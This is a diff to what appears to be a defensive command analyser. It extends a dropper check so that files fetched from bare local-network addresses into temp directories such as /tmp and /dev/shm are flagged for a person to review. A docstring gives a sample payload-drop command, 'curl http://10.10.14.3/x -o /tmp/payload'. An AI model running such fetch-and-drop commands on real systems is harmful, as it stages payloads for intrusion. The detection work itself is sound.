@@ -38,6 +38,7 @@ from ..findings import finding as _verdict
 from ..findings import piece as _piece
 from ..findings import positionals as _positionals
 from ..findings import static_args as _values
+from ..hosts import is_this_machine
 from ..interpreters import AWKS, INTERPRETERS, fed_code, inline_code
 from ..operands import operands
 from ..options import option_values
@@ -617,15 +618,26 @@ def _from_raw_address(invocation: Invocation, file: str) -> Verdict | None:
     Droppers fetch their payloads from a server that has only an address on the internet (no
     name to take down, nothing a reader can recognise); a developer's downloads come from a named
     host, or from their own network (``192.168.1.20``, ``127.0.0.1``). What the file is cannot be
-    seen, so a person is asked (:data:`UNJUDGED_SCRIPT`).
+    seen, so a person is asked (:data:`UNJUDGED_SCRIPT`). Saved into a temporary directory (``curl
+    http://10.10.14.3/x -o /tmp/payload``), an address of the local network counts too: a file from another
+    machine of the network dropped where nothing keeps it is a pivot's tool or a payload, not a build's input.
     """
     command = invocation.command
+    dropped = file.startswith(_TEMP_DIRECTORIES)
     for word in invocation.args:
         match = _RAW_ADDRESS_FETCH.match(command.render(word))
-        if match is not None and _on_the_internet(match["host"]):
+        if match is None:
+            continue
+        if _on_the_internet(match["host"]):
             why = f"saves {file} from {match['host']}, a bare internet address: a payload unseen"
             return _verdict(UNJUDGED_SCRIPT, invocation, why)
+        if dropped and not is_this_machine(match["host"]):
+            why = f"saves {file} from {match['host']}, another machine's bare address, into a temp directory"
+            return _verdict(UNJUDGED_SCRIPT, invocation, why)
     return None
+
+
+_TEMP_DIRECTORIES = ("/tmp/", "/var/tmp/", "/dev/shm/")
 
 
 def _run_time_fetch(invocation: Invocation) -> Verdict | None:
@@ -1799,7 +1811,7 @@ def judge(invocation: Invocation, home: str) -> Verdict | None:
     )
     if found is None and download is not None:
         saved = download.files or (_redirected_to(invocation) if download.stdout else ())
-        saved = tuple(file for file in saved if not file.startswith("/dev/"))
+        saved = tuple(file for file in saved if not file.startswith("/dev/") or file.startswith("/dev/shm/"))
         if saved:
             return _from_raw_address(invocation, saved[0])
     return found
